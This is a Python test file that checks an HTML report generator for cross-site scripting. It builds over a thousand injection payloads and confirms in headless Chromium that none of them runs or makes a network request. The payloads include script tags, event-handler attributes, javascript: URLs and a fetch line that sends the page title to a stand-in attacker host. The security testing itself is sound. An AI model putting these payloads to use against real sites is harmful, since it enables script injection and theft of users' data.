"""23. Script payloads in every text that comes from outside: none runs in Chromium, none leaves the page. (See also tests/web.)"""

from __future__ import annotations

import shutil
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest

from conftest import ROOT
from unfog.views.report import write_report

sys.path.insert(0, str(ROOT / "tests" / "web"))
import invented

ACTS = ("window.ran=1", "fetch('https://evil.example/'+document.title)", "location='https://evil.example/'", "alert(1)")
ELEMENTS = (
    "<script>{}</script>", "<script src=data:text/javascript,{}></script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<iframe srcdoc=\"<script>{}</script>\">",
    "<body onload=\"{}\">", "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\"></video>", "<a href=\"javascript:{}\">x</a>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{}\">x", "<object data=\"javascript:{}\">", "<input autofocus onfocus=\"{}\">",
    "<style>@import 'https://evil.example/';</style><i>{}</i>", "<base href=https://evil.example/><i>{}</i>", "<form action=\"javascript:{}\"><button>x",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<template><script>{}</script></template>", "<link rel=stylesheet href=https://evil.example/ title=\"{}\">",
    "javascript:{}", "data:text/html,<script>{}</script>", "${{{}}}", "{{{{{}}}}}", "'-{}-'",
)  # fmt: skip
BREAKS = ("", "\">", "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "\u2028", "</style>")
PAYLOADS = tuple(lead + element.format(act) for lead, element, act in product(BREAKS, ELEMENTS, ACTS))
MANY = {False: 50, True: 1_000}


def poisoned(made: invented.Invented, payloads: tuple[str, ...]) -> invented.Invented:
    """The picture with a payload in every title, publisher, address, file name, body, place, source and quote."""
    texts = {row.id: payloads[at % len(payloads)] for at, row in enumerate(made.documents)}
    documents = tuple(
        replace(row, name=texts[row.id], title=texts[row.id], publisher=texts[row.id], url=texts[row.id], text=row.text + texts[row.id]) for row in made.documents
    )
    events = tuple(
        replace(
            row, place=row.place and replace(row.place, name=payload, region=payload), items=(invented.Named(payload, row.claims),),
            evidence=tuple(replace(each, claim=replace(each.claim, source=payload, via=(payload,), topic=payload)) for each in row.evidence),
        )
        for row, payload in zip(made.events, payloads, strict=True)
    )  # fmt: skip
    return invented.Invented(events, made.assessments, documents)


def test_no_payload_runs(tmp_path: Path, full: bool):
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("needs Chromium: sudo apt-get install chromium")
    api = pytest.importorskip("playwright.sync_api", reason="needs Playwright: pip install playwright")
    assert len(set(PAYLOADS)) >= 1_000
    payloads = PAYLOADS[:: len(PAYLOADS) // MANY[full]][: MANY[full]]
    path = tmp_path / "report.html"
    write_report(poisoned(invented.picture(len(payloads)), payloads), path, title=payloads[0], notes=payloads[:20])
    with ThreadPoolExecutor(1) as apart:  # another test of this process may have a browser open: one a thread
        dialogs, asked = apart.submit(opened, api, chromium, path, len(payloads)).result()
    assert (dialogs, [each for each in asked if not each.startswith(("file:", "blob:", "data:"))]) == ([], [])


def opened(api, chromium: str, path: Path, many: int) -> tuple[list[str], list[str]]:
    """What a page said in dialogs and asked for while its first rows were walked through."""
    asked, dialogs = [], []
    with api.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        page.wait_for_selector("html[data-ready=yes]")
        for _ in range(min(many, 200)):
            page.keyboard.press("j")
        assert page.evaluate("typeof window.ran") == "undefined"
        assert page.url.startswith("file:")
        assert page.locator("#app img, #app iframe, #app base, #app script, #app meta, #app object, #app form[action]").count() == 0
        browser.close()
    return dialogs, asked
